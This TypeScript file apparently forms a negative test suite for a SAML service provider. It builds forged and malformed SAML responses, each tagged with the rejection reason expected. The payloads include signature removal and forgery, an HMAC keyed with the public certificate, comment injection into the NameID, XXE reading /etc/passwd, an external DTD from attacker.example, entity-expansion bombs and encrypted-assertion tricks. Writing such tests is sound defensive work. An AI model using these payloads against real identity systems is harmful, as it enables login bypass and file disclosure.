import { createHmac } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import type { Attack, AttackContext } from './attack.js';
import { encode } from './fake-saml-identity-provider.js';
import type { RsaCertificate } from './rsa-certificate.js';
import { SIGNED_LIES } from './signed-lies.js';
import { evil, evilAssertion, getAssertion, getSignature, without, WRAPPING_ATTACKS } from './wrapping-attacks.js';

const SHA_1 = 'http://www.w3.org/2000/09/xmldsig#sha1';
const RSA_SHA_1 = 'http://www.w3.org/2000/09/xmldsig#rsa-sha1';
const HMAC_SHA_1 = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1';
const HMAC_SHA_256 = 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256';
const RSA_1_5 = 'http://www.w3.org/2001/04/xmlenc#rsa-1_5';
const MEBIBYTE = 1_048_576;

const NAME_ID_END = '</saml:NameID>';

/** Forged and altered signatures and keys. */
const FORGERIES: Attack[] = [
  {
    name: 'an assertion without a signature',
    reason: 'wrong-signature',
    build: ({ idp, values }) => encode(idp.buildResponse(values, idp.buildAssertion(values))),
  },
  { name: 'a removed signature', reason: 'wrong-signature', build: ({ idp, values }) => encode(without(idp.issue(values), getSignature)) },
  {
    name: 'a signed response around an unsigned assertion',
    reason: 'wrong-signature',
    build: ({ idp, values }) => encode(idp.sign(idp.buildResponse(values, idp.buildAssertion(values)))),
  },
  { name: 'an altered NameID', reason: 'wrong-signature', build: ({ idp, values }) => encode(evil(idp.issue(values))) },
  {
    name: 'an altered attribute',
    reason: 'wrong-signature',
    build: ({ idp, values }) => encode(idp.issue(values).replace('ada@example.com', 'root@example.com')),
  },
  {
    name: 'an altered signature value',
    reason: 'wrong-signature',
    build: ({ idp, values }) =>
      encode(idp.issue(values).replace(/(<ds:SignatureValue>)(.)/, (_, tag, first) => tag + (first === 'A' ? 'B' : 'A'))),
  },
  {
    name: 'an empty signature value',
    reason: 'wrong-signature',
    build: ({ idp, values }) => encode(idp.issue(values).replace(/(<ds:SignatureValue>)[^<]*/, '$1')),
  },
  {
    name: 'a self-signed certificate in KeyInfo',
    reason: 'wrong-signature',
    build: ({ other, values }) => encode(other.issue(values)),
  },
  {
    name: 'the trusted certificate in KeyInfo, and a signature by another key',
    reason: 'wrong-signature',
    build: ({ idp, other, values }) => encode(other.issue(values).replaceAll(bare(other.certificate.pem), bare(idp.certificate.pem))),
  },
  {
    name: 'RSA with SHA-1',
    reason: 'wrong-algorithm',
    build: ({ idp, values }) => encode(idp.issue(values, { signatureAlgorithm: RSA_SHA_1 })),
  },
  { name: 'a SHA-1 digest', reason: 'wrong-algorithm', build: ({ idp, values }) => encode(idp.issue(values, { digestAlgorithm: SHA_1 })) },
  {
    name: 'an HMAC keyed with the public certificate',
    reason: 'wrong-algorithm',
    build: ({ idp, values }) => {
      const xml = idp.issue(values).replace(/(<ds:SignatureMethod Algorithm=")[^"]*/, `$1${HMAC_SHA_1}`);
      const signedInfo = /<ds:SignedInfo.*<\/ds:SignedInfo>/.exec(xml)![0];
      const value = createHmac('sha1', idp.certificate.pem).update(signedInfo).digest('base64');
      return encode(xml.replace(/(<ds:SignatureValue>)[^<]*/, `$1${value}`));
    },
  },
  {
    name: 'an unknown HMAC',
    reason: 'wrong-algorithm',
    build: ({ idp, values }) => encode(idp.issue(values).replace(/(<ds:SignatureMethod Algorithm=")[^"]*/, `$1${HMAC_SHA_256}`)),
  },
  {
    name: 'an XSLT transform',
    reason: 'wrong-algorithm',
    build: (context) => addTransform(context, 'http://www.w3.org/TR/1999/REC-xslt-19991116'),
  },
  {
    name: 'an XPath transform',
    reason: 'wrong-algorithm',
    build: (context) => addTransform(context, 'http://www.w3.org/TR/1999/REC-xpath-19991116'),
  },
  {
    name: 'a third transform',
    reason: 'wrong-signature',
    build: (context) => addTransform(context, 'http://www.w3.org/2001/10/xml-exc-c14n#'),
  },
  {
    name: 'a canonicalization that keeps comments',
    reason: 'wrong-algorithm',
    build: ({ idp, values }) =>
      encode(
        idp.issue(values, {
          transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments'],
        }),
      ),
  },
  {
    name: 'two references in one signature',
    reason: 'wrong-signature',
    build: ({ idp, values }) => encode(idp.issue(values).replace(/<ds:Reference.*<\/ds:Reference>/, (reference) => reference + reference)),
  },
  {
    name: 'a reference to the whole document',
    reason: 'wrong-signature',
    build: ({ idp, values }) => encode(idp.issue(values).replace(/(<ds:Reference URI=")[^"]*/, '$1')),
  },
  {
    name: 'the signature of another assertion',
    reason: 'wrong-signature',
    build: ({ idp, values }) =>
      encode(
        idp.buildResponse(values, evilAssertion(idp, values).replace('<saml:Subject>', `${getSignature(idp.issue(values))}<saml:Subject>`)),
      ),
  },
];

/** Markup that parsers read differently, or that costs memory and time. */
const MARKUP: Attack[] = [
  { name: 'a comment in the NameID', reason: 'malformed', build: (context) => insertIntoNameId(context, '<!---->') },
  { name: 'a CDATA section in the NameID', reason: 'malformed', build: (context) => insertIntoNameId(context, '<![CDATA[]]>') },
  { name: 'a processing instruction in the NameID', reason: 'malformed', build: (context) => insertIntoNameId(context, '<?x y?>') },
  { name: 'an entity of its own', reason: 'malformed', build: (context) => prepend(context, '<!DOCTYPE r [<!ENTITY x "root">]>') },
  {
    name: 'an external entity',
    reason: 'malformed',
    build: (context) => prepend(context, '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  },
  {
    name: 'an external document type',
    reason: 'malformed',
    build: (context) => prepend(context, '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">'),
  },
  {
    name: 'entities that expand without end',
    reason: 'malformed',
    build: (context) =>
      prepend(context, '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'),
  },
  { name: 'two root elements', reason: 'malformed', build: ({ idp, values }) => encode(idp.issue(values) + idp.issue(values)) },
  {
    name: 'an attribute without quotes',
    reason: 'malformed',
    build: ({ idp, values }) => encode(idp.issue(values).replace('<samlp:Status>', '<samlp:Status x=y>')),
  },
  {
    name: 'elements nested without end',
    reason: 'malformed',
    build: ({ idp, values }) =>
      encode(idp.issue(values).replace('<samlp:Status>', `${'<a>'.repeat(5_000)}${'</a>'.repeat(5_000)}<samlp:Status>`)),
  },
  {
    name: 'elements without number',
    reason: 'malformed',
    build: ({ idp, values }) => encode(idp.issue(values).replace('<samlp:Status>', `${'<a/>'.repeat(20_000)}<samlp:Status>`)),
  },
  {
    name: 'a message of megabytes',
    reason: 'too-large',
    build: ({ idp, values }) => encode(idp.issue(values).replace('<samlp:Status>', `${' '.repeat(MEBIBYTE)}<samlp:Status>`)),
  },
  { name: 'UTF-16', reason: 'malformed', build: ({ idp, values }) => Buffer.from(idp.issue(values), 'utf16le').toString('base64') },
  {
    name: 'bytes that are not UTF-8',
    reason: 'malformed',
    build: ({ idp, values }) => Buffer.concat([Buffer.from(idp.issue(values)), Buffer.from([0xc3, 0x28])]).toString('base64'),
  },
  { name: 'a compressed message', reason: 'malformed', build: ({ idp, values }) => deflateRawSync(idp.issue(values)).toString('base64') },
  { name: 'text that is not base64', reason: 'malformed', build: ({ idp, values }) => idp.issue(values) },
  { name: 'an empty message', reason: 'malformed', build: () => '' },
];

/** Encrypted assertions. */
const ENCRYPTED: Attack[] = [
  {
    name: 'an assertion encrypted for another',
    reason: 'encrypted',
    build: ({ idp, other, values }) => encryptFor({ idp, values }, other.certificate),
  },
  {
    name: 'an encrypted assertion without a signature',
    reason: 'wrong-signature',
    build: async ({ idp, recipient, values }) =>
      encode(idp.sign(idp.buildResponse(values, await idp.encrypt(idp.buildAssertion(values), recipient)))),
  },
  {
    name: 'an encrypted assertion that another has signed',
    reason: 'wrong-signature',
    build: async ({ idp, other, recipient, values }) =>
      encode(idp.buildResponse(values, await idp.encrypt(other.sign(idp.buildAssertion(values)), recipient))),
  },
  {
    name: 'an encrypted assertion signed with SHA-1',
    reason: 'wrong-algorithm',
    build: async ({ idp, recipient, values }) =>
      encode(
        idp.buildResponse(values, await idp.encrypt(idp.sign(idp.buildAssertion(values), { signatureAlgorithm: RSA_SHA_1 }), recipient)),
      ),
  },
  {
    name: 'a document type in an encrypted assertion',
    reason: 'malformed',
    build: async ({ idp, recipient, values }) =>
      encode(
        idp.buildResponse(values, await idp.encrypt(`<!DOCTYPE r [<!ENTITY x "y">]>${idp.sign(idp.buildAssertion(values))}`, recipient)),
      ),
  },
  {
    name: 'a key encrypted with RSA 1.5',
    reason: 'wrong-algorithm',
    build: async ({ idp, recipient, values }) => {
      const xml = idp.buildResponse(values, await idp.encrypt(idp.sign(idp.buildAssertion(values)), recipient));
      return encode(xml.replace('http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p', RSA_1_5));
    },
  },
  {
    name: 'a plain assertion beside an encrypted one',
    reason: 'malformed',
    build: async ({ idp, recipient, values }) => {
      const signed = idp.sign(idp.buildAssertion(values));
      return encode(idp.buildResponse(values, evilAssertion(idp, values) + (await idp.encrypt(signed, recipient))));
    },
  },
];

export const ATTACKS: readonly Attack[] = [...WRAPPING_ATTACKS, ...FORGERIES, ...MARKUP, ...ENCRYPTED, ...SIGNED_LIES];

function addTransform({ idp, values }: AttackContext, algorithm: string): string {
  return encode(idp.issue(values).replace('</ds:Transforms>', `<ds:Transform Algorithm="${algorithm}"/></ds:Transforms>`));
}

/** Canonicalization removes what is inserted, so the signature stays valid. */
function insertIntoNameId({ idp, values }: AttackContext, markup: string): string {
  return encode(idp.issue(values).replace(NAME_ID_END, `${markup}${NAME_ID_END}`));
}

function prepend({ idp, values }: AttackContext, markup: string): string {
  return encode(markup + idp.issue(values));
}

async function encryptFor({ idp, values }: Pick<AttackContext, 'idp' | 'values'>, recipient: RsaCertificate): Promise<string> {
  return encode(idp.buildResponse(values, await idp.encrypt(getAssertion(idp.issue(values)), recipient)));
}

function bare(pem: string): string {
  return pem.replaceAll(/-----[^-]*-----|\s/g, '');
}
